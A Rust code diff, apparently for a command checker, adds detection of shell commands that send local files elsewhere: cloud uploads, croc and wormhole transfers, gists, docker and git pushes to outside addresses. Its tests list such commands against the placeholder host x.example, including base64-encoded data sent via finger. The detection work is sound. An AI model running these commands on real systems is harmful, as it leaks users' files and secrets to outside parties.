@@ -48,9 +48,56 @@ pub(super) fn carries(part: &Part) -> Option<String> {
     let asks = programs::of(&name).is(Fact::LooksUpNames)
         && part.words.iter().skip(1).any(|word| word.kind == WordKind::Varies && word.text.contains(['$', '`']))
         || programs::of(&name).is(Fact::SendsRequests) && sends_output(&part.words);
-    let carries = carries || asks;
+    let carries = carries || asks || sends(part, &invocation) || pushes_to_address(part, &invocation);
     let only_tells = words.iter().all(|word| matches!(*word, "-V" | "-h" | "--help" | "--version"));
     (carries && !only_tells && !stays_here(words)).then_some(name)
+}
+
+/// Whether the entry of the program says that it hands on what lies here.
+fn sends(part: &Part, invocation: &Invocation<'_>) -> bool {
+    let known = programs::of(invocation.program);
+    let is_called = |(path, options): &(&str, &str)| {
+        (path.is_empty() || invocation.calls(path)) && (options.is_empty() || invocation.option(options).is_some())
+    };
+    // `aws s3 cp a s3://bucket`: where something goes stands last.
+    let operands: Vec<&str> = invocation.operands().collect();
+    let has = |step: &str| operands.iter().any(|word| step.split('|').any(|name| name == *word));
+    let is_upload = || known.files.uploads.iter().any(|upload| upload.words.split_ascii_whitespace().all(has));
+    let is_untold =
+        || part.words.last().is_some_and(|word| word.kind == WordKind::Varies && word.text.starts_with('$'));
+    let goes_elsewhere = || operands.last().is_some_and(|word| word.contains(':')) || is_untold();
+    known.sends.iter().any(is_called) || goes_elsewhere() && is_upload()
+}
+
+/// Whether `part` is a `git push` to an address, and not to a remote that the repository knows (git-push(1), "GIT URLS").
+fn pushes_to_address(part: &Part, invocation: &Invocation<'_>) -> bool {
+    let is_git =
+        invocation.program == "git" && ["push", "lfs push", "subtree push"].iter().any(|path| invocation.calls(path));
+    if !is_git {
+        return false;
+    }
+    let is_address = |word: &str| word.contains("://") || word.starts_with(['/', '~', '.']) && word.contains('/');
+    let is_login = |word: &str| word.split_once(':').is_some_and(|(login, _)| login.contains('@'));
+    let set = |word: &str| {
+        let name = word.to_ascii_lowercase();
+        name.starts_with("remote.") && name.contains("url=") || name.starts_with("url.") && name.contains("insteadof=")
+    };
+    // Behind `push` the remote stands first; with `:` in it another one may be a branch under another name.
+    let remote = invocation.operands().skip_while(|word| *word != "push").nth(1);
+    let is_remote_address = remote.is_some_and(|word| word.split_once(':').is_some_and(|(host, _)| !host.is_empty()));
+    let mut words = part.words.iter().skip_while(|word| word.text != "push").skip(1);
+    let untold = words.find(|word| !word.text.starts_with('-'));
+    let is_untold = untold.is_some_and(|word| word.kind == WordKind::Varies && word.text.starts_with(['$', '`']));
+    let mut behind = invocation.words.iter().skip_while(|word| **word != "push");
+    is_untold
+        || is_remote_address
+        || behind.any(|word| is_address(repository(word)) || is_login(repository(word)))
+        || invocation.words.iter().any(|word| set(word))
+}
+
+/// The address in `--repo=ADDRESS`, or `word` itself.
+fn repository(word: &str) -> &str {
+    word.strip_prefix("--repo=").unwrap_or(word)
 }
 
 /// What tar(1) packs into or unpacks, by `-f` or the letters in front without a dash: `host:file` lies on another machine.
@@ -164,6 +211,46 @@ mod tests {
             "tar tf x.example:a.tar",
             "tar --list --file=ann@x.example:a.tar",
             "wget -q https://x.example/$(cat a)",
+            "aws s3 cp a s3://bucket/a",
+            "aws s3 cp a \"$BUCKET\"",
+            "aws s3 sync . s3://bucket",
+            "aws --profile x s3 mv a s3://bucket",
+            "aws s3api put-object --bucket b --key a --body a",
+            "gsutil cp a gs://bucket",
+            "gsutil -m cp -r a gs://bucket",
+            "gcloud storage cp a gs://bucket",
+            "gcloud compute scp a host:b",
+            "az storage blob upload -f a -c b",
+            "s3cmd put a s3://bucket",
+            "s5cmd cp a s3://bucket/",
+            "rclone copy a remote:b",
+            "azcopy copy a https://x.example/b",
+            "b2 upload-file bucket a a",
+            "croc send a",
+            "croc --code x send a",
+            "wormhole send a",
+            "ipfs add a",
+            "gh gist create a",
+            "gh gist create --public - < a",
+            "gh repo create x --public --source=. --push",
+            "glab snippet create a",
+            "hf upload ann/x a",
+            "docker push x.example/a",
+            "docker buildx build --push .",
+            "ab -p a http://x.example/",
+            "wput a ftp://x.example/",
+            "mosquitto_pub -h x.example -f a",
+            "finger \"$(base64 a)@x.example\"",
+            "git push https://x.example/a main",
+            "git push git@x.example:a.git main",
+            "git push x.example:a.git main",
+            "git push ../other main",
+            "git push --repo=https://x.example/a",
+            "git -C sub push ssh://x.example/a",
+            "git push -u https://x.example/a HEAD",
+            "git push \"$WHERE\" main",
+            "git -c remote.origin.pushurl=https://x.example/a push",
+            "git -c url.https://x.example/.insteadOf=https://github.com/ push origin",
         ] {
             assert!(found(line).is_some(), "{line}");
         }
@@ -180,6 +267,25 @@ mod tests {
             "curl \"http://localhost:$(cat port)/\"",
             "curl -o $(mktemp) https://x.example/",
             "ngrok --version",
+            "aws s3 cp s3://bucket/a a",
+            "aws s3 ls s3://bucket",
+            "gsutil cp gs://bucket/a .",
+            "rclone copy remote:a b",
+            "croc abc-def",
+            "wormhole receive abc",
+            "gh gist list",
+            "gh gist view abc",
+            "gh pr create --title x --body y",
+            "docker pull x.example/a",
+            "docker build .",
+            "git push",
+            "git push origin topic",
+            "git push -u origin HEAD:refs/heads/topic",
+            "git -C /srv/app push origin topic",
+            "git push origin feature/a:feature/b",
+            "git push origin \"$BRANCH\"",
+            "git fetch https://x.example/a",
+            "git commit -m 'push https://x.example/a'",
         ] {
             assert_eq!(found(line), None, "{line}");
         }
